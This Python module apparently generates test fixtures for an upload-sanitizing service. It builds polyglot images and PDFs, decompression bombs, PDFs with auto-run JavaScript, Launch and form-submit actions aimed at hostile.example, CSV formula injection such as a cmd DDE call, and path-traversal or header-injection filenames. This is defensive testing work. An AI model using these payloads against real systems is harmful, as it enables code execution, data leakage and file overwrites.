"""Files that try something: each with a name, its bytes, and whether it may be taken (cleaned) or must be refused.

Every family makes as many as are asked for, all different, the same ones at every run.
"""

import io
import random
import struct
import warnings
import zipfile
import zlib
from functools import cache

import pikepdf
from PIL import Image, PngImagePlugin

MARKER = b"HOSTILE-MARKER"
REFUSED, CLEANED = "refused", "cleaned"
SCRIPT = "app.alert('HOSTILE-MARKER')"


def a_picture(form="PNG", size=(60, 40), seed=1, **options):
    noise = random.Random(seed)
    picture = Image.new("RGB", size, (noise.randrange(256), noise.randrange(256), noise.randrange(256)))
    out = io.BytesIO()
    picture.save(out, form, **options)
    return out.getvalue()


def a_pdf(change=None, pages=1):
    with pikepdf.new() as document:
        for _page in range(pages):
            document.add_blank_page()
        if change:
            change(document)
        out = io.BytesIO()
        with warnings.catch_warnings():
            # Some of these are meant to be odd.
            warnings.simplefilter("ignore")
            document.save(out)
    return out.getvalue()


def wrong_signature(number):
    bodies = [
        b"<html><script>alert('HOSTILE-MARKER')</script></html>",
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>HOSTILE-MARKER</script></svg>",
        b"MZ\x90\x00" + MARKER, b"\x7fELF" + MARKER, b"#!/bin/sh\necho HOSTILE-MARKER\n", b"GIF89a" + MARKER,
        b"\x00\x01\x02" + MARKER, b"PK\x03\x04" + MARKER, b"%!PS-Adobe\n(HOSTILE-MARKER) run",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARKER, a_picture("JPEG"), a_pdf(), a_picture("PNG"),
    ]  # fmt: skip
    body = bodies[number % len(bodies)]
    endings = [".pdf", ".png", ".jpg", ".csv"]
    ending = endings[number // len(bodies) % 4]
    fits = {10: (".jpg",), 11: (".pdf",), 12: (".png",)}.get(number % len(bodies), ())
    return f"report{ending}", body, CLEANED if ending in fits else REFUSED


def kind_not_taken(number):
    names = [
        "page.html", "drawing.svg", "letter.docm", "run.exe", "table.xlsx", "picture.gif", "script.js", "page.pdf.html",
        "nothing", "archive.zip", "book.xlsm", "photo.heic", "link.url", "style.css", "mail.eml",
    ]  # fmt: skip
    return names[number % len(names)], [b"%PDF-1.7 " + MARKER, MARKER, b"<script>"][number % 3], REFUSED


def polyglot(number):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr(f"run-{number}.js", MARKER * 20)
    after = [
        archive.getvalue(), b"<script>HOSTILE-MARKER</script>", b"<?php HOSTILE-MARKER ?>", b"MZ" + MARKER,
        b"\n%PDF-1.4 /OpenAction << /S /JavaScript /JS (HOSTILE-MARKER) >>",
    ][number % 5]  # fmt: skip
    match number // 5 % 4:
        case 0:
            return "photo.png", a_picture("PNG", seed=number) + after, CLEANED
        case 1:
            return "photo.jpg", a_picture("JPEG", seed=number, comment=b"<script>" + MARKER) + after, CLEANED
        case 2:
            return "plan.pdf", a_pdf() + after, CLEANED
        case _:
            return "plan.pdf", b"GIF89a;" + after + a_pdf(), REFUSED


def told_too_much(number):
    """Pictures that say where and by whom they were made."""
    exif = Image.Exif()
    exif[0x013B], exif[0x010F] = "HOSTILE-MARKER", f"Camera {number}"
    exif.get_ifd(0x8825)[2] = (32.0, 17.0, float(number))
    if number % 2:
        return "photo.jpg", a_picture("JPEG", seed=number, exif=exif.tobytes()), CLEANED
    words = PngImagePlugin.PngInfo()
    words.add_text("Author", "HOSTILE-MARKER")
    words.add_itxt("Comment", "HOSTILE-MARKER", zip=bool(number % 4))
    return "photo.png", a_picture("PNG", seed=number, pnginfo=words, exif=exif.tobytes()), CLEANED


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_picture(number):
    sides = [(60_000, 60_000), (2**31 - 1, 1), (1, 2**31 - 1), (30_000, 2_000), (8_000, 8_000), (20_001, 10)]
    width, height = sides[number % len(sides)]
    if number // len(sides) % 2:
        # The beginning of a JPEG whose size is a lie.
        data = bytearray(a_picture("JPEG", seed=number))
        place = data.index(b"\xff\xc0")
        data[place + 5 : place + 9] = struct.pack(">HH", min(height, 65_000), min(width, 65_000))
        return "photo.jpg", bytes(data), REFUSED
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(1000 + number))
    return (
        "photo.png",
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", body) + _chunk(b"IEND", b""),
        REFUSED,
    )


@cache
def _much_from_little():
    return zlib.compress(bytes(320_000_000), 9)


def unpacks_too_much(number):
    packed = _much_from_little()
    if number % 3 == 0:
        text = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
        return "photo.png", text + _chunk(b"zTXt", b"k\x00\x00" + packed) + _chunk(b"IEND", b""), REFUSED
    double = number % 3 == 1

    def change(document):
        body = zlib.compress(packed) if double else packed
        stream = pikepdf.Stream(document, body)
        stream["/Filter"] = (
            pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
            if double
            else pikepdf.Name.FlateDecode
        )
        document.pages[0]["/Contents"] = document.make_indirect(stream)

    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        out = io.BytesIO()
        document.save(out, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
    return "plan.pdf", out.getvalue(), REFUSED


def active_pdf(number):
    """A document that acts: scripts, launches, other files, sendings, in every place that may hold one."""
    name = pikepdf.Name
    text = f"{SCRIPT} {number}"
    kinds = [
        ("JavaScript", {"/JS": text}), ("Launch", {"/F": f"run-{number}.exe HOSTILE-MARKER"}),
        ("SubmitForm", {"/F": f"https://hostile.example/{number}?HOSTILE-MARKER"}),
        ("GoToR", {"/F": "HOSTILE-MARKER.pdf"}), ("GoToE", {"/F": "HOSTILE-MARKER.pdf"}),
        ("ImportData", {"/F": "HOSTILE-MARKER.fdf"}), ("URI", {"/URI": f"javascript:{text}"}),
        ("URI", {"/URI": "file:///HOSTILE-MARKER"}), ("Rendition", {"/JS": text}), ("Movie", {"/T": text}),
    ]  # fmt: skip
    kind, more = kinds[number % len(kinds)]

    def an_action(document, *, inside=False):
        act = pikepdf.Dictionary(S=name("/" + kind), **{key[1:]: value for key, value in more.items()})
        if inside:
            act = pikepdf.Dictionary(S=name.URI, URI="https://example.org/", Next=pikepdf.Array([act]))
        return document.make_indirect(act) if number % 2 else act

    def change(document):
        root, page = document.Root, document.pages[0]
        match number // len(kinds) % 7:
            case 0:
                root.OpenAction = an_action(document)
            case 1:
                root.AA = pikepdf.Dictionary(WC=an_action(document))
                page.obj.AA = pikepdf.Dictionary(O=an_action(document))
            case 2:
                page.obj.Annots = pikepdf.Array([
                    pikepdf.Dictionary(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 9, 9], A=an_action(document)),
                ])  # fmt: skip
            case 3:
                page.obj.Annots = document.make_indirect(pikepdf.Array([
                    document.make_indirect(pikepdf.Dictionary(
                        Type=name.Annot, Subtype=name.Widget, Rect=[0, 0, 9, 9], A=an_action(document, inside=True),
                    )),
                ]))  # fmt: skip
            case 4:
                scripts = pikepdf.Dictionary(Names=pikepdf.Array(["run", an_action(document)]))
                root.Names = pikepdf.Dictionary(JavaScript=scripts)
                document.docinfo["/Author"] = "HOSTILE-MARKER"
            case 5:
                document.attachments["run.js"] = text.encode()
                mark = pikepdf.Dictionary(Type=name.Annot, Subtype=name.FileAttachment, Rect=[0, 0, 9, 9])
                mark.FS = document.attachments["run.js"].obj
                page.obj.Annots = pikepdf.Array([mark])
            case _:
                root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=document.make_stream(text.encode()))
                root.Outlines = pikepdf.Dictionary(
                    First=document.make_indirect(pikepdf.Dictionary(Title="One", A=an_action(document)))
                )

    return f"plan-{number}.pdf", a_pdf(change), CLEANED


def broken(number):
    noise = random.Random(number)
    whole, name = [(a_pdf(), "plan.pdf"), (a_picture("PNG"), "photo.png"), (a_picture("JPEG"), "photo.jpg")][
        number % 3
    ]
    data = bytearray(whole)
    match number // 3 % 3:
        case 0:
            data = data[: noise.randrange(9, len(data))]
        case 1:
            for _each in range(20):
                data[noise.randrange(9, len(data))] = noise.randrange(256)
        case _:
            place = noise.randrange(9, len(data))
            data[place:place] = noise.randbytes(200)
    return name, bytes(data), "either"


def table_that_runs(number):
    cells = [
        "=cmd|' /C calc'!A0", "+HOSTILE(1)", "-2+3+cmd|x", "@SUM(1)", "\t=1+1", " =HYPERLINK(\"http://hostile.example\")",
    ]  # fmt: skip
    cell = cells[number % len(cells)].replace('"', '""')
    text = f'name,value\nrow {number},"{cell}"\n'
    encodings = ["utf-8", "utf-8-sig", "utf-16"]
    return "table.csv", text.encode(encodings[number // len(cells) % 3]), CLEANED


def path_in_name(number):
    names = [
        "../../../etc/passwd.png", "..\\..\\windows\\run.png", "/etc/cron.d/job.png", "C:\\boot.png", "a/b/../../c.png",
        "photo\u202egnp.exe.png", "photo\x00.php\x00.png", ".htaccess.png", "con:aux|nul?.png", "x" * 4000 + ".png",
        "photo.png\r\nSet-Cookie: a=b.png", "\u200b\u200bphoto\ufeff.png", "<script>alert(1)</script>.png",
        "é" * 300 + ".PNG",
    ]  # fmt: skip
    return names[number % len(names)], a_picture("PNG", seed=number), CLEANED


FAMILIES = {
    "wrong signature": (wrong_signature, 52),
    "kind not taken": (kind_not_taken, 15),
    "polyglot": (polyglot, 40),
    "told too much": (told_too_much, 20),
    "huge picture": (huge_picture, 12),
    "unpacks too much": (unpacks_too_much, 3),
    "active document": (active_pdf, 140),
    "broken": (broken, 60),
    "table that runs": (table_that_runs, 18),
    "path in the name": (path_in_name, 28),
}


def some(every=1):
    """Each family's files, or every so many of them: (family, number, name, bytes, what becomes of it)."""
    for family, (make, count) in FAMILIES.items():
        for number in range(0, count, every):
            yield (family, number, *make(number))
